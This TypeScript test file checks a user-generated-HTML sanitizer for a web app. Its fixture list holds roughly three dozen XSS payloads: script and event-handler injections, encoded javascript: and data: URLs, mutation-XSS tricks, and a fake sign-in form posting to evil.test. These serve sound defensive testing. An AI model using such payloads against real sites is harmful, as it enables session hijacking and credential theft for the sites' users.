import { describe, expect, it } from 'vitest';
import { renderSafeHtml, plainText } from '../../../src/features/posts/safe-html.ts';

const own = 'https://api.hub.test/storage/v1/object/public/';
const rules = { pictureAddress: (src: string) => (src.startsWith(own) ? src : undefined) };
const clean = (html: string) => renderSafeHtml(html, rules);

/** The sanitized HTML as a browser parses it: every element and every attribute that could execute. */
function inBrowser(html: string) {
  const page = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  return [...page.body.querySelectorAll('*')];
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${own}a.png" onerror="alert(1)" onload=alert(2)>`,
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.test"><input name="password"><button>Sign in</button></form>',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.test/x.css">',
  '<p style="position:fixed;inset:0">x</p>',
  '<p class="skip-link" id="content">x</p>',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src="https://tracker.test/pixel.gif">',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '"><script>alert(1)</script>',
  '<x onfocus=alert(1) tabindex=1 autofocus>x</x>',
  '<title></title><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)',
];

describe('user-generated HTML', () => {
  it.each(attacks)('never executes in the browser: %s', (attack) => {
    for (const element of inBrowser(clean(attack))) {
      expect(element.tagName).not.toMatch(
        /^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|LINK|META|BASE|SVG|MATH|VIDEO|TEMPLATE|NOSCRIPT)$/,
      );
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(
          /^(href|src|alt|title|rel|width|height|loading|decoding|lang|dir|start|scope|datetime|hreflang)$/,
        );
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/);
        if (name === 'src') expect(value.startsWith(own)).toBe(true);
      }
    }
  });

  it('is unchanged when sanitized twice', () => {
    for (const attack of attacks) expect(clean(clean(attack))).toBe(clean(attack));
  });

  it("preserves text, links, and the hub's own images", () => {
    const html = `<h2>Say one thing</h2><p>A <em>kind</em> word &amp; <strong>more</strong>.</p><ul><li>One</li></ul>`;
    expect(clean(html)).toBe(html);
    expect(clean(`<img src="${own}a.png" alt="A shop" width="300" height="200">`)).toBe(
      `<img src="${own}a.png" alt="A shop" loading="lazy" decoding="async" width="300" height="200" />`,
    );
    expect(clean('<a href="https://x.test/">x</a>')).toBe(
      '<a href="https://x.test/" rel="noopener nofollow ugc">x</a>',
    );
    expect(clean('<a href="/jobs">x</a>')).toBe('<a href="/jobs">x</a>');
    expect(clean('<h1>Title</h1>')).toBe('<h2>Title</h2>');
    expect(clean('<p dir="rtl" lang="ar">مرحبا 🎉</p>')).toBe('<p dir="rtl" lang="ar">مرحبا 🎉</p>');
  });

  it('uses absolute URLs in feeds', () => {
    expect(renderSafeHtml('<a href="/jobs?q=1">x</a>', { ...rules, base: 'https://hub.test' })).toBe(
      '<a href="https://hub.test/jobs?q=1">x</a>',
    );
  });

  it('converts to plain text', () => {
    expect(plainText('<p>One &amp; two</p><p>three &lt;b&gt;</p><script>four</script>')).toBe(
      'One & two three <b>',
    );
  });

  it('handles extreme input: ten thousand open elements, nothing, half a tag', () => {
    expect(inBrowser(clean('<b>'.repeat(10_000) + 'x')).length).toBeLessThan(200);
    expect(clean('')).toBe('');
    expect(inBrowser(clean('<p>x</p><img src="'))).toHaveLength(1);
  });
});
